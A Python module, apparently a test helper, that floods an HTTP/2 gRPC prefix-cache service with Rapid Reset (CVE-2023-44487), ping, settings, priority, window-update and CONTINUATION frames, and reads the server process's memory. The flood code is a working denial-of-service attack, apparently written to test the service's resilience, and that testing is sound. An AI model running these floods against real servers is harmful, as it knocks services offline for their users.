"""Floods of HTTP/2 frames by one client that shows no token, and what a server's process takes."""

import re
import socket
import struct
import threading
from itertools import count
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 1, 2, 3, 4, 6, 8, 9


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name: bytes, value: bytes) -> bytes:
    """Not indexed, with a new name."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


MATCH = b"".join(
    header(name, value)
    for name, value in {
        b":method": b"POST",
        b":scheme": b"http",
        b":path": b"/radixkv.v1.PrefixCacheService/MatchPrefix",
        b":authority": b"x",
        b"te": b"trailers",
        b"content-type": b"application/grpc",
    }.items()
)


def rapid_reset(stream: int) -> bytes:
    """Streams that are opened and reset at once: CVE-2023-44487."""
    cancel = struct.pack(">I", 8)
    return frame(HEADERS, 4, stream, MATCH) + frame(RESET, 0, stream, cancel)


# What one client sends over and over, by the number of a stream that it has not used.
FLOODS = {
    "rapid reset": rapid_reset,
    "pings": lambda _: frame(PING, payload=bytes(8)),
    "settings": lambda _: frame(SETTINGS),
    "priorities": lambda _: frame(PRIORITY, 0, 1, bytes(5)),
    "windows": lambda _: frame(WINDOW, payload=struct.pack(">I", 1)),
    "headers that go on": lambda at: (
        frame(HEADERS, 0, at, MATCH) + 64 * frame(CONTINUATION, 0, at, header(b"x", 100 * b"y"))
    ),
}


def memory_mib(pid: int) -> float:
    status = Path(f"/proc/{pid}/status").read_text()
    found = re.search(r"VmRSS:\s+(\d+)", status)
    assert found
    return int(found[1]) / 1024


def flood(address: str, make, stopping: threading.Event) -> None:
    host, port = address.split(":")
    while not stopping.is_set():
        try:
            with socket.create_connection((host, int(port)), timeout=5) as connection:
                threading.Thread(target=_read, args=(connection,), daemon=True).start()
                connection.sendall(PREFACE + frame(SETTINGS))
                for first in count(1, 200):
                    connection.sendall(b"".join(make(first + 2 * n) for n in range(100)))
                    if stopping.wait(0.001):
                        return
        except OSError:
            pass  # the server cut it off


def _read(connection: socket.socket) -> None:
    try:
        while connection.recv(1 << 16):
            pass
    except OSError:
        pass
